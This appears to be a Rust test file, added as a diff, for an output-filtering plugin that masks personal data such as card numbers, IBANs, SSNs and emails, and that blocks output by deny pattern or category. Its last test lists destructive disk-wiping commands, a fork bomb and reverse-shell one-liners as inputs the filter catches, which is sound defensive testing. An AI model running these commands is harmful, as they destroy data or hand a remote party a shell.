@@ -1,0 +1,287 @@
+//! Tables of what is masked and what stays, and the hook on the host in memory.
+
+use crate::content_safety::__rind_hook_pre_output as pre_output;
+use crate::mask::mask;
+use crate::settings::{Kind, Settings};
+use rind_sdk::prelude::*;
+use rind_sdk::serde_json::{Value, json};
+use rind_sdk::testing;
+
+const ALL: [Kind; 6] = [
+    Kind::Phone,
+    Kind::Email,
+    Kind::Ipv4,
+    Kind::Ssn,
+    Kind::Iban,
+    Kind::Card,
+];
+
+fn masked_with(text: &str, kinds: &[Kind], allow: &[&str]) -> Option<String> {
+    let settings = Settings {
+        mask: kinds.to_vec(),
+        block: Vec::new(),
+        deny: Vec::new(),
+        allow: allow.iter().map(|text| (*text).to_owned()).collect(),
+    };
+    mask(text, &settings).map(|masked| masked.text)
+}
+
+fn masked(text: &str) -> Option<String> {
+    masked_with(text, &ALL, &[])
+}
+
+#[test]
+fn personal_data_is_masked() {
+    for (text, expected) in [
+        ("pay 4111111111111111.", "pay [card masked]."),
+        ("4111 1111 1111 1111", "[card masked]"),
+        ("card=5500-0055-5555-5559,", "card=[card masked],"),
+        ("(378282246310005)", "([card masked])"),
+        ("3782 822463 10005", "[card masked]"),
+        ("30569309025904", "[card masked]"),
+        ("3056 930902 5904", "[card masked]"),
+        ("卡号4111111111111111。", "卡号[card masked]。"),
+        (
+            "6011000990139424 3530111333300000",
+            "[card masked] [card masked]",
+        ),
+        ("DE89370400440532013000", "[iban masked]"),
+        (
+            "to GB82 WEST 1234 5698 7654 32 today",
+            "to [iban masked] today",
+        ),
+        ("NO9386011117947\n", "[iban masked]\n"),
+        ("FR1420041010050500013M02606", "[iban masked]"),
+        ("SSN: 219-45-6789!", "SSN: [ssn masked]!"),
+        (
+            "mail jane.doe+x@mail.example.co.uk.",
+            "mail [email masked].",
+        ),
+        ("<a@b.io>", "<[email masked]>"),
+        ("mailto:jane@example.com", "mailto:[email masked]"),
+        ("call +49 30 1234-5678, now", "call [phone masked], now"),
+        ("+1 (415) 555-2671.", "[phone masked]."),
+        ("+442071838750", "[phone masked]"),
+        ("+49 (0)30 123456", "[phone masked]"),
+        ("from 192.168.7.20:8080", "from [ipv4 masked]:8080"),
+        ("203.0.113.9.", "[ipv4 masked]."),
+        (
+            "a@example.com, 203.0.113.9 and ü 4111111111111111 ü",
+            "[email masked], [ipv4 masked] and ü [card masked] ü",
+        ),
+    ] {
+        assert_eq!(masked(text).as_deref(), Some(expected), "{text}");
+    }
+}
+
+#[test]
+fn what_only_looks_like_it_stays() {
+    for text in [
+        "",
+        "plain words, 12 of them",
+        // Cards: wrong check digit, no issuer, part of something.
+        "4111111111111112",
+        "4111 1111 1111 1112",
+        "4111 1111-1111 1111",
+        "1234567890123452",
+        "1700000000000000003",
+        "0.4111111111111111",
+        "x4111111111111111",
+        "4111111111111111f",
+        "id_4111111111111111",
+        "41111111111111110000",
+        "/orders/4111111111111111",
+        "0x4111111111111111",
+        "#4111111111111111",
+        "4006381333931",
+        // Hashes, ids, versions, times, code.
+        "356a192b7913b04c54574d18c28d46e6395428ab",
+        "4111111111111111111111111111111111111111",
+        "commit 4242424242424242424242424242424242424242",
+        "41111111-1111-1111-1111-111111111111",
+        "f47ac10b-58cc-4372-a567-0e02b2c3d479",
+        "00000000-4111-1111-1111-111111111111",
+        "v1.2.3.4 and 1.2.3 and 10.0.19041.1",
+        "version 1.2.3.4",
+        "version = \"1.2.3.4\"",
+        "requests==2.31.0.1",
+        "1.2.3.4-beta",
+        "1.2.3.4.5",
+        "127.0.0.1:80 0.0.0.0 255.255.255.0",
+        "2026-11-22T02:15:13.123456789Z",
+        "const MAX: u64 = 18446744073709551615;",
+        "let mask = 0xDEADBEEFDEADBEEF;",
+        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+        // Accounts: wrong checksum, no such country, too long.
+        "DE89370400440532013001",
+        "ZZ89370400440532013000",
+        "DE893704004405320130001",
+        "XDE89370400440532013000",
+        "DE89 3704 0044 0532 013",
+        // Social security numbers: areas that are not given out, dates, parts.
+        "000-12-3456 666-12-3456 900-12-3456 123-00-4567 123-45-0000",
+        "123-45-67890 1123-45-6789 123-45-6789-1",
+        "123 45 6789",
+        "2024-01-2024",
+        // Addresses.
+        "git@github.com:rind/rind.git",
+        "@types/node@20.1.0",
+        "serde@1.0.200",
+        "icon@2x.png getty@tty1.service",
+        "user@localhost",
+        "a@b",
+        "x@-y.com",
+        // Phones: no code, too short, sums.
+        "+0123456789",
+        "+1234567",
+        "a+4420718387501",
+        "1 + 2",
+        "+1234567890123456789",
+        "030 1234567",
+    ] {
+        assert_eq!(masked(text), None, "{text}");
+    }
+}
+
+#[test]
+fn only_the_kinds_that_are_on_are_masked_and_what_is_allowed_stays() {
+    let text = "a@example.com 4111111111111111";
+    assert_eq!(masked_with(text, &[], &[]), None);
+    assert_eq!(
+        masked_with(text, &[Kind::Card], &[]).unwrap(),
+        "a@example.com [card masked]"
+    );
+    assert_eq!(
+        masked_with(text, &ALL, &["4111111111111111"]).unwrap(),
+        "[email masked] 4111111111111111"
+    );
+    assert_eq!(masked_with("a@example.com", &ALL, &["a@example.com"]), None);
+    assert!(masked_with("ba@example.com", &ALL, &["a@example.com"]).is_some());
+}
+
+#[test]
+fn a_long_text_with_many_near_misses_is_read_in_time() {
+    let text = "a.b+4111 1111 1111 1112 DE89 3704 a@b+49 1.2.3 ".repeat(20_000);
+    let started = std::time::Instant::now();
+    let _ = masked(&text);
+    assert!(started.elapsed().as_secs() < 5);
+    let _ = masked(&"a".repeat(1 << 20));
+    let _ = masked(&"+1 ".repeat(1 << 18));
+    assert!(started.elapsed().as_secs() < 10);
+}
+
+fn run(changes: Value, output: &str) -> Result<OutputOutcome, Error> {
+    testing::reset();
+    let mut settings = json!({"mask": ["card"], "block": [], "deny": [], "allow": []});
+    for (key, value) in changes.as_object().into_iter().flatten() {
+        settings[key] = value.clone();
+    }
+    testing::set_config(settings);
+    pre_output(&testing::context(), output.to_owned())
+}
+
+#[test]
+fn a_clean_output_is_left_as_it_is() {
+    assert_eq!(run(json!({}), "fine").unwrap(), OutputOutcome::default());
+}
+
+#[test]
+fn the_log_says_how_much_was_masked_and_not_what() {
+    let outcome = run(json!({}), "4111111111111111 and 4111111111111111").unwrap();
+    assert_eq!(
+        outcome.text.as_deref(),
+        Some("[card masked] and [card masked]")
+    );
+    assert!(
+        matches!(&outcome.effects[..], [Effect::Log(line)] if line.text == "2 [card masked]"),
+        "{outcome:?}"
+    );
+}
+
+#[test]
+fn a_deny_pattern_holds_the_output_back_without_repeating_it() {
+    let deny = json!({"deny": ["blue", "(?i)project\\s+falcon"]});
+    let outcome = run(deny.clone(), "about Project  Falcon").unwrap();
+    assert_eq!(
+        outcome.block.as_deref(),
+        Some("it matches deny pattern 2 of the settings")
+    );
+    assert_eq!(outcome.text, None);
+    assert_eq!(
+        run(deny, "about falcons").unwrap(),
+        OutputOutcome::default()
+    );
+}
+
+#[test]
+fn a_pattern_that_is_none_is_an_error_with_its_number() {
+    let error = run(json!({"deny": ["fine", "(open"]}), "x").unwrap_err();
+    assert!(error.message().contains("deny pattern 2"), "{error}");
+}
+
+#[test]
+fn patterns_that_backtracking_would_never_finish_are_matched_in_time() {
+    let started = std::time::Instant::now();
+    let text = "a".repeat(50_000);
+    let outcome = run(json!({"deny": ["(a+)+$x", "(a|aa)*b"]}), &text).unwrap();
+    assert_eq!(outcome, OutputOutcome::default());
+    assert!(started.elapsed().as_secs() < 5);
+}
+
+#[test]
+fn categories_hold_back_what_is_theirs_once_they_are_on() {
+    let table: &[(&str, &[&str], &[&str])] = &[
+        (
+            "destructive-command",
+            &[
+                "rm -rf /",
+                "sudo rm -rf --no-preserve-root / # x",
+                "`rm -fr ~`",
+                "rm -r -f /*",
+                "mkfs.ext4 -F /dev/sda1",
+                "dd if=/dev/zero of=/dev/nvme0n1 bs=1M",
+                ":(){ :|:& };:",
+            ],
+            &[
+                "rm -rf target",
+                "rm -rf /tmp/build",
+                "rm -rf ~/.cache/x",
+                "rm /",
+                "dd if=a of=disk.img",
+                "mkfs.ext4 disk.img",
+            ],
+        ),
+        (
+            "private-key",
+            &[
+                "-----BEGIN PRIVATE KEY-----",
+                "-----BEGIN OPENSSH PRIVATE KEY-----\nb3",
+                "-----BEGIN PGP PRIVATE KEY BLOCK-----",
+            ],
+            &["-----BEGIN PUBLIC KEY-----", "-----BEGIN CERTIFICATE-----"],
+        ),
+        (
+            "reverse-shell",
+            &[
+                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                "nc -e /bin/sh 10.0.0.1 4444",
+                "ncat --exec /bin/bash 10.0.0.1 1",
+            ],
+            &["nc -zv localhost 80", "ls /dev/tcp", "bash -c ls"],
+        ),
+    ];
+    for (category, held_back, fine) in table {
+        let on = json!({"block": [category]});
+        for text in *held_back {
+            let outcome = run(on.clone(), text).unwrap();
+            let reason = outcome
+                .block
+                .unwrap_or_else(|| panic!("{category}: {text}"));
+            assert!(reason.contains(category), "{reason}");
+            assert_eq!(run(json!({}), text).unwrap().block, None, "{text}");
+        }
+        for text in *fine {
+            assert_eq!(run(on.clone(), text).unwrap().block, None, "{text}");
+        }
+    }
+}
